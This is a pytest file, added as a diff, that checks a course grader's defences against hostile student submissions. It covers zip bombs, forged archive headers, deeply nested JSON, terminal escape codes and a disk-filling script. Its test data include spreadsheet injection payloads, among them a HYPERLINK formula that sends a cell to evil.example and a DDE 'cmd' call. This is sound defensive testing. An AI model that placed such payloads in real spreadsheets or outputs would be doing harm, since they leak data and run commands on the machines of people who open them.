@@ -1,0 +1,169 @@
+"""What a submission writes cannot hurt the grader, the instructor or a classmate: a result that
+unpacks to gigabytes, a line of deeply nested JSON, an escape sequence in an error message, a
+spreadsheet formula, a scratch folder filled to the brim; and a careless notebook (saved in
+Latin-1, metadata mangled by an editor) is read, not scored 0."""
+
+from __future__ import annotations
+
+import base64
+import importlib.util
+import io
+import json
+import sys
+from pathlib import Path
+
+import nbformat
+import numpy as np
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT / "tools" / "grading"))
+
+import plain  # noqa: E402
+import sandbox  # noqa: E402
+
+MASTER = ROOT / "notebooks" / "02_conditioning.ipynb"
+
+
+def _load_grade():
+    spec = importlib.util.spec_from_file_location(
+        "dlnotes_tools_grade", ROOT / "tools" / "grade.py"
+    )
+    assert spec and spec.loader
+    module = importlib.util.module_from_spec(spec)
+    sys.modules["dlnotes_tools_grade"] = module
+    spec.loader.exec_module(module)
+    return module
+
+
+grade = _load_grade()
+
+
+def _message(save, **arrays) -> dict:
+    buf = io.BytesIO()
+    save(buf, **arrays)
+    return {"tree": {"t": "ndarray", "k": "a0"}, "npz": base64.b64encode(buf.getvalue()).decode()}
+
+
+def test_a_compressed_result_is_refused_before_it_is_unpacked():
+    """A compressed archive of zeros: 10 MB of zeros in 10 kB. The grader reads only stored
+    members, which are never larger than the message."""
+    bomb = _message(np.savez_compressed, a0=np.zeros(10**7, dtype=np.uint8))
+    assert len(bomb["npz"]) < 100_000
+    with pytest.raises(ValueError, match="compressed members"):
+        plain.from_message(bomb)
+    honest = plain.to_message(*plain.encode((np.arange(3.0), {"w": np.ones((2, 2))})))
+    out = plain.from_message(honest)
+    assert np.array_equal(out[0], np.arange(3.0)) and np.array_equal(out[1]["w"], np.ones((2, 2)))
+
+
+def test_an_archive_whose_members_claim_more_than_it_holds_is_refused():
+    good = _message(np.savez, a0=np.arange(1000.0))
+    raw = bytearray(base64.b64decode(good["npz"]))
+    # the central directory's uncompressed size of the member (offset 24 in its header)
+    at = raw.rfind(b"PK\x01\x02")
+    raw[at + 24 : at + 28] = (10**9).to_bytes(4, "little")
+    forged = {**good, "npz": base64.b64encode(bytes(raw)).decode()}
+    with pytest.raises(ValueError, match="malformed archive"):
+        plain.from_message(forged)
+    with pytest.raises(ValueError, match="malformed archive"):
+        plain.from_message({**good, "npz": base64.b64encode(b"not a zip").decode()})
+
+
+def test_result_lines_are_parsed_defensively():
+    lines = [
+        json.dumps({"event": "cell", "grade_id": "a", "status": "error", "error": "x" * 10_000}),
+        "[" * 200_000,  # a RecursionError in json.loads, not a ValueError
+        "not json",
+        "[1, 2]",
+        json.dumps({"event": "cell", "grade_id": ["not", "text"], "status": "error"}),
+        json.dumps({"event": "done"}),
+    ]
+    records = sandbox.parse_records("\n".join(lines).encode())
+    assert [r["event"] for r in records] == ["cell", "cell", "done"]
+    assert len(records[0]["error"]) == sandbox.MAX_TEXT
+    assert isinstance(records[1]["grade_id"], str)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("\x1b[2K\x1b[Gzed        8/8  graded", "\\x1b[2K\\x1b[Gzed        8/8  graded"),
+        ("bob\r0/8", "bob\\r0/8"),
+        ("two\nlines", "two\\nlines"),
+        ("abc\u202edcba", "abc\\u202edcba"),  # a right-to-left override
+        ('=HYPERLINK("https://evil.example/?"&A2,"details")', "'=HYPERLINK(\"https://evil."),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM"),
+        ("ch02_clip_by_norm: wrong values – café", "ch02_clip_by_norm: wrong values – café"),
+    ],
+)
+def test_texts_from_a_submission_are_safe_on_a_terminal_and_in_a_spreadsheet(text, shown):
+    safe = grade.safe_text(text)
+    assert safe.startswith(shown)
+    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 or 0x202A <= ord(c) <= 0x202E for c in safe)
+
+
+def _submission_bytes(encoding: str) -> bytes:
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell("# Grüße, café\nx = 1")]
+    return nbformat.writes(nb).encode(encoding)
+
+
+def test_a_notebook_saved_in_latin1_is_read_with_a_note():
+    nb, notes = grade._read_notebook(_submission_bytes("cp1252"))
+    assert "café" in nb.cells[0].source
+    assert notes and "not UTF-8" in notes[0] and "cp1252" in notes[0]
+    nb, notes = grade._read_notebook(b"\xef\xbb\xbf" + _submission_bytes("utf-8"))  # with a BOM
+    assert "café" in nb.cells[0].source and notes == []
+    with pytest.raises(ValueError, match="not a valid notebook"):
+        grade._read_notebook(b"\x00\x01binary")
+
+
+def test_malformed_cell_metadata_is_ignored_and_nbgrader_metadata_restored():
+    release = nbformat.read(MASTER, as_version=4)
+    nb = nbformat.read(MASTER, as_version=4)
+    k, cell = next(
+        (k, c)
+        for k, c in enumerate(nb.cells)
+        if c.metadata.get("nbgrader", {}).get("grade_id") == "ch02_clip_by_norm_solution"
+    )
+    cell.metadata["nbgrader"] = "oops"  # an editor (or a student) wrote a string here
+    nb.cells[0]["metadata"] = ["not", "a", "dict"]
+    notes = grade._repair(nb, release)
+    assert f"note: ignored malformed metadata of cell {k + 1}" in notes
+    assert "note: ignored malformed metadata of cell 1" in notes
+    assert any("restored nbgrader metadata of ch02_clip_by_norm_solution" in n for n in notes)
+    assert cell.metadata["nbgrader"]["grade_id"] == "ch02_clip_by_norm_solution"
+
+
+FILL = """
+import os
+written = 0
+try:
+    while written < (1 << 30):
+        with open(f"junk{written}", "wb") as fh:
+            fh.write(b"0" * (16 << 20))
+        written += 16 << 20
+except OSError as err:
+    stopped_by = err.errno
+n = written
+"""
+
+
+def test_the_sandbox_scratch_folder_is_capped():
+    """/tmp/work is memory (a tmpfs) that no process limit counts: without a cap it holds half
+    the machine's RAM, and two sandboxes side by side could pin all of it."""
+    import cloudpickle
+
+    job = {
+        "exercise": "fill", "kind": "value", "var": "n", "preamble": [],
+        "cells": [("fill_cell", FILL)], "references": [], "cases": [],
+        "cell_limit": 20.0, "time_limit": 5.0, "process_limit": 16,
+    }  # fmt: skip
+    result = sandbox.run(cloudpickle.dumps(job), sandbox.Limits(wall=60))
+    values = [r for r in result.records if r.get("event") == "value"]
+    assert result.status == "ok" and len(values) == 1, (result.status, result.records)
+    written = plain.from_message(values[0]["result"])
+    assert 0 < written <= sandbox.SCRATCH_BYTES
